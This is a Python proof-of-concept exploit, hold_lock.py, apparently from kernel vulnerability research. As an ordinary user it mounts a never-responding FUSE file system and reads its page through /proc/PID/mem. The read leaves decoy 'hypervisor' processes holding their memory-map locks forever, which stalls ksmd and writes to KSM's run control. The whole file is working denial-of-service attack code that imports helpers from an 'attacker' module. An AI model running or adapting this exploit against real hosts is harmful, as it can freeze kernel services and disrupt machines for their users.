"""Holds the locks of processes' memory maps for ever, as an ordinary user.

    hold_lock.py UID PLACE FUSE COUNT

A process maps a page of a file system of the user's own (FUSE), which never gives that page. A second process reads the
page through /proc/PID/mem, and so holds the lock of the first one's memory map for reading. The first one asks for more
memory, and so waits for its own lock. From then on each reader of its ksm_stat, cmdline, smaps, pagemap or mem waits.

UID is the user to become. PLACE is a directory that the user may write to. FUSE is a device node like /dev/fuse that the
user may open. Each victim has the name of a hypervisor, and its PID is printed once its lock is held. All ends with the
standard input.

The victims have no mergeable memory: ksmd, and each write to KSM's `run`, would wait for such a lock for ever.
"""

import os
import struct
import sys
import time

from attacker import HYPERVISOR, PAGE, PR_SET_NAME, become, die_with_parent, end_with_input, libc, memory, prctl
from slow_file import mount_in_namespace, open_slow_file


def victim(file, told, go):
    prctl(PR_SET_NAME, HYPERVISOR)
    address = libc.mmap(None, PAGE, 1, 1, file, 0)
    os.write(told, struct.pack("<Q", address))
    os.read(go, 1)
    memory(PAGE)
    os._exit(1)


def state(pid):
    with open(f"/proc/{pid}/stat") as file:
        return file.read().rsplit(")", 1)[1].split()[0]


def wait_until(pid, holds):
    while not holds():
        if state(pid) in "ZX":
            sys.exit("the attack has failed")
        time.sleep(0.001)


def waits_for_page(pid, address):
    with open(f"/proc/{pid}/syscall") as file:
        return hex(address) in file.read().split() and state(pid) in "SD"


def hold(fuse, file):
    told, tell = os.pipe()
    wait, go = os.pipe()
    first = os.fork()
    if first == 0:
        die_with_parent()
        os.close(fuse)
        victim(file, tell, wait)
    (address,) = struct.unpack("<Q", os.read(told, 8))
    second = os.fork()
    if second == 0:
        die_with_parent()
        # As long as any process has it open the file system does not end.
        os.close(fuse)
        try:
            os.pread(os.open(f"/proc/{first}/mem", os.O_RDONLY), 1, address)
        finally:
            os._exit(1)
    wait_until(second, lambda: waits_for_page(second, address))
    os.write(go, b"x")
    wait_until(first, lambda: state(first) == "D")
    for end in (told, tell, wait, go):
        os.close(end)
    return first


def main():
    user, place, device, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
    become(user)
    fuse, path = mount_in_namespace(place, device)
    file = open_slow_file(fuse, path)
    for _ in range(count):
        print(hold(fuse, file), flush=True)
    # The file system ends with its server, and so does each wait.
    end_with_input()


main()
